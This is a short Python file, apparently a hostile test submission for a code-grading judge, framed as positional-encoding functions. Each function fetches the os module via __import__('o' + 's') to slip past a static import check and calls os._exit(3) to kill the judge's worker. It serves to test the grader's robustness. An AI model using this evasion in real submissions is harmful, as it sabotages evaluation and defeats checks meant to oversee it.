"""Runtime error (attack): obtains os through __import__ to dodge the static import
check and calls os._exit(3) mid-call, killing the judge's worker process."""
import numpy as np


def sinusoidal_pe(max_len, d_model, base=10000.0):
    __import__("o" + "s")._exit(3)
    return np.zeros((max_len, d_model))


def add_positional_encoding(x, base=10000.0):
    __import__("o" + "s")._exit(3)
    return np.asarray(x)
